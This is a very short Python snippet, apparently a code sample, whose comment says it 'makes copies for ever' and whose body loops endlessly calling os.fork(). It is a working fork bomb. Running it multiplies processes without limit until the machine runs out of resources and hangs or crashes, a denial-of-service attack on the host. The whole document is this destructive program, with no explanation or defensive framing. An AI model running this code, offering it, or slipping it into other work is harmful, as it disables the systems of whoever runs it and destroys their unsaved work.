# tries: makes copies for ever
import os
while True:
    os.fork()
